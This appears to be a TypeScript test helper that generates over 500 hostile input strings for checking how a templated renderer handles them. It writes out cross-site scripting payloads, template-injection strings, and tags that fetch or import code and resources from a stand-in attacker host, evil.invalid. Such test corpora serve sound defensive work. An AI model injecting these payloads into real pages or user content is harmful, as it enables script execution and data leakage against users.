const frames = (inner: string) => [
  inner,
  `"${inner}`,
  `'>${inner}`,
  `</p></td></table>${inner}`,
  `<!--${inner}-->`,
  `${inner}\n${inner}`,
  `{{#if x}}${inner}{{/if}}`,
  `# ${inner}`,
  `${inner}{{lines}}`,
]

const calls = ['alert(1)', 'fetch("https://evil.invalid/x")', 'window.top.hit=1', 'import("https://evil.invalid/m.js")']

const scripts = calls.flatMap((call) => [
  `<script>${call}</script>`,
  `<img src=x onerror='${call}'>`,
  `<svg onload='${call}'/>`,
  `<svg><script>${call}</script></svg>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<a href='javascript:${call}'>x</a>`,
  `<body onload='${call}'>`,
  `<details open ontoggle='${call}'>x</details>`,
  `<math><mtext><style><img src onerror='${call}'>`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
])

const requests = [
  '<img src="https://evil.invalid/p.png">',
  '<link rel=stylesheet href="https://evil.invalid/s.css">',
  '<style>@import "https://evil.invalid/s.css";</style>',
  '<style>*{background:url(https://evil.invalid/b.png)}</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.invalid/f.woff2)}*{font-family:x}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '<base href="https://evil.invalid/">',
  '<object data="https://evil.invalid/o"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<svg><image href="https://evil.invalid/i.svg"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  'data:text/html,<script>alert(1)</script>',
  'javascript:alert(1)',
  'url(https://evil.invalid/u)',
  '@import url(https://evil.invalid/u);',
  '}*{background:url(https://evil.invalid/b.png)}',
]

const templates = [
  '{{quote.number}}',
  '{{lines}}',
  '{{#if quote.number}}x{{/if}}',
  '{{/if}}',
  '{{else}}',
  '{{__proto__}}',
  '{{{quote.number}}}',
  '{{quote.number',
  '}}',
  '---',
  '# title',
  '$& $1 $$ $`',
]

/** More than 500 texts that want to be more than text: markup, scripts, requests, templates, and one megabyte of them. */
export function hostileTexts(): string[] {
  return [...[...scripts, ...requests, ...templates].flatMap(frames).filter((it) => it.trim() === it), long]
}

const long = '<b onmouseover=alert(1)>{{quote.number}}'.repeat(26_000)
